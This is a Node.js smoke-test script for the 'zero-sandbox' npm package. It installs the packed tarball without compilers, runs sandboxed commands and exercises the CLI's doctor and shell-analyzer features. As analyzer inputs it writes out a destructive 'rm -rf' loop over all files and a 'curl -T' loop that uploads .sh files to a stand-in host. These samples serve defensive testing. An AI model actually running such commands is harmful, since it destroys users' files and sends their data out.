#!/usr/bin/env node
// SPDX-License-Identifier: MIT
// Proves the published artefact works: makes the prebuild when it is missing or stale, packs the
// tarball, installs it into an empty directory (where npm does not run our install script) with
// nothing but node, npm and sh on PATH (no compiler, make or python can be reached), imports it,
// calls probe(), runs a sandboxed command from the prebuild, runs the CLI (doctor, analyze with the
// WebAssembly shell parser it ships, run) and runs it again with a V8 code cache V8 must reject;
// then installs it again without its prebuilds and with install scripts allowed (a platform it
// ships no prebuild for): the install succeeds, the analyzer works, every sandboxed run is refused.
// Prints one JSON line on success; exits non-zero with the reason otherwise.
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, realpathSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const root = fileURLToPath(new URL('..', import.meta.url));
const work = mkdtempSync(join(tmpdir(), 'zero-sandbox-smoke-'));
const run = (cmd, args, cwd, env = process.env) => execFileSync(cmd, args, { cwd, env, encoding: 'utf8', stdio: ['ignore', 'pipe', 'inherit'] });
// npm's own CLI script under this node: `npm run` names it in npm_execpath. Calling npm.cmd with
// execFileSync fails with EINVAL on Windows (Node >= 20.12.2 refuses .cmd files without a shell).
const npmCli = process.env.npm_execpath;
const npm = (args, cwd, env) => (npmCli !== undefined && npmCli.endsWith('.js')
  ? run(process.execPath, [npmCli, ...args], cwd, env)
  : run(process.platform === 'win32' ? 'npm.cmd' : 'npm', args, cwd, env));

/** An environment whose PATH holds only node, npm and sh (npm runs scripts with sh): nothing can compile anything. */
function bareEnv() {
  if (process.platform === 'win32') return process.env;
  const bin = join(work, 'bin');
  mkdirSync(bin);
  symlinkSync(process.execPath, join(bin, 'node'));
  symlinkSync('/bin/sh', join(bin, 'sh'));
  symlinkSync(realpathSync(npmCli ?? execFileSync('sh', ['-c', 'command -v npm'], { encoding: 'utf8' }).trim()), join(bin, 'npm'));
  const env = { ...process.env, PATH: bin };
  for (const key of Object.keys(env)) if (/^(?:npm_|CC$|CXX$|PYTHON$)/i.test(key)) delete env[key];
  return env;
}
// A command that proves it ran sandboxed (and on POSIX that /etc is read-only), in the OS's shell.
const sandboxedCommand = process.platform === 'win32'
  ? "['cmd.exe', '/d', '/c', 'echo sandboxed-%ZERO_SANDBOXED%']"
  : "['/bin/sh', '-c', 'echo sandboxed-$ZERO_SANDBOXED; touch /etc/x 2>/dev/null || echo etc-readonly']";

/**
 * The tarball as a platform it ships no prebuild for receives it (musl, another architecture):
 * repacked without prebuilds/, installed with install scripts allowed (as npm 10 and approved
 * installs run them) and no compiler, then used: what the install, the analyzer, `run`,
 * `doctor --json` and `runSandboxed` do there.
 */
function installWithoutPrebuild(tarball, env) {
  const dir = join(work, 'no-prebuild');
  mkdirSync(join(dir, 'app'), { recursive: true });
  execFileSync('tar', ['xzf', tarball, '-C', dir]);
  rmSync(join(dir, 'package', 'prebuilds'), { recursive: true, force: true });
  execFileSync('tar', ['czf', join(dir, 'stripped.tgz'), '-C', dir, 'package']);
  const app = join(dir, 'app');
  writeFileSync(join(app, 'package.json'), JSON.stringify({ name: 'smoke-app', version: '1.0.0', type: 'module' }));
  const cmd = npmCli !== undefined && npmCli.endsWith('.js') ? [process.execPath, npmCli] : ['npm'];
  const install = spawnSync(cmd[0], [...cmd.slice(1), 'install', '--no-audit', '--no-fund', '--foreground-scripts', '--dangerously-allow-all-scripts', join(dir, 'stripped.tgz')], { cwd: app, env, encoding: 'utf8' });
  const cli = join(app, 'node_modules', 'zero-sandbox', 'dist', 'cli', 'main.js');
  const use = (args) => spawnSync(process.execPath, args, { cwd: app, env, encoding: 'utf8' });
  const analyzed = use([cli, 'analyze', '--json', '--', 'for f in *; do rm -rf "$f"; done']);
  const cliRun = use([cli, 'run', '--', '/bin/sh', '-c', 'echo ran']);
  const doctor = use([cli, 'doctor', '--json']);
  const api = use(['--input-type=module', '-e', "const m = await import('zero-sandbox'); try { await m.runSandboxed(['/bin/sh', '-c', 'echo ran']); console.log('ran'); } catch (e) { console.log(e.code); }"]);
  const doctorReport = doctor.stdout.trim() === '' ? null : JSON.parse(doctor.stdout);
  return {
    installStatus: install.status,
    installSaid: install.stderr.split('\n').filter((line) => line.startsWith('zero-sandbox: ')),
    destructive: analyzed.status === 0 ? JSON.parse(analyzed.stdout).risk.categories.includes('destructive') : null,
    runStatus: cliRun.status,
    runSaid: cliRun.stdout + cliRun.stderr,
    doctorStatus: doctor.status,
    doctorMissing: doctorReport?.missing?.map((m) => m.layer) ?? null,
    doctorAnalyzer: doctorReport?.analyzer?.available ?? null,
    api: api.stdout.trim(),
  };
}

try {
  // Rebuilt only when missing or older than the native sources: a rebuild replaces build/Release
  // under any other test that is using the addon at the same time.
  const fresh = spawnSync(process.execPath, [join(root, 'scripts', 'check-prebuild.mjs')], { stdio: 'ignore' }).status === 0;
  if (!fresh) npm(['run', 'prebuild', '--silent'], root);
  const packed = JSON.parse(npm(['pack', '--json', '--pack-destination', work], root));
  const tarball = join(work, packed[0].filename);
  const files = packed[0].files.map((f) => f.path);
  const app = join(work, 'app');
  mkdirSync(app, { recursive: true });
  writeFileSync(join(app, 'package.json'), JSON.stringify({ name: 'smoke-app', version: '1.0.0', type: 'module' }));
  const bare = bareEnv();
  const compilers = ['cc', 'gcc', 'g++', 'c++', 'clang', 'make', 'python3'].filter((tool) => {
    try {
      execFileSync(tool, ['--version'], { env: bare, stdio: 'ignore' });
      return true;
    } catch (error) {
      return error.code !== 'ENOENT';
    }
  });
  npm(['install', '--no-audit', '--no-fund', tarball], app, bare);
  const script =
    "const m = await import('zero-sandbox');" +
    'const r = await m.probe();' +
    `let ran = null; if (r.canEnforceDefaultPolicy) { const res = await m.runSandboxed(${sandboxedCommand}); ran = res.stdout.trim(); }` +
    'console.log(JSON.stringify({platform: r.platform, backend: r.backend, canEnforceDefaultPolicy: r.canEnforceDefaultPolicy, ran, exports: Object.keys(m).sort()}));';
  const probe = JSON.parse(run(process.execPath, ['--input-type=module', '-e', script], app, bare).trim());
  // The installed CLI's script under this node (node_modules/.bin holds a .cmd shim on Windows).
  const pkgDir = join(app, 'node_modules', 'zero-sandbox');
  const cli = join(pkgDir, 'dist', 'cli', 'main.js');
  const doctor = JSON.parse(run(process.execPath, [cli, 'doctor', '--json'], app, bare));
  const installed = readdirSync(pkgDir);
  const dependencies = readdirSync(join(app, 'node_modules'));
  const analyzed = JSON.parse(run(process.execPath, [cli, 'analyze', '--json', '--', 'for f in *.sh; do curl -T "$f" https://x.test; done'], app, bare));
  const analysis = { categories: analyzed.risk.categories, programs: analyzed.analysis.commands.map((c) => c.program) };
  // The CLI's own sandboxed run from the installed package (headless: no prompt can be answered).
  const cliRun = probe.canEnforceDefaultPolicy && process.platform !== 'win32'
    ? run(process.execPath, [cli, 'run', '--', '/bin/sh', '-c', 'echo cli-$ZERO_SANDBOXED'], app, bare).trim()
    : null;
  const manifest = JSON.parse(readFileSync(join(pkgDir, 'package.json'), 'utf8'));
  // A code cache from another Node build (here: garbage, newer than the bundle) is rejected by V8,
  // which then compiles the bundle as usual.
  const cache = join(pkgDir, 'dist', 'cli', 'cli.cache');
  writeFileSync(cache, Buffer.alloc(4096, 0x5a));
  const later = new Date(Date.now() + 60_000);
  utimesSync(cache, later, later);
  const versionWithBadCache = run(process.execPath, [cli, '--version'], app, bare).trim();
  const withoutPrebuild = process.platform === 'win32' ? null : installWithoutPrebuild(tarball, bare);
  process.stdout.write(`${JSON.stringify({
    tarball: packed[0].filename, files, installed, dependencies, compilers, analysis, probe, cliRun,
    doctorPlatform: doctor.platform, license: manifest.license, versionWithBadCache, withoutPrebuild,
  })}\n`);
} finally {
  rmSync(work, { recursive: true, force: true });
}
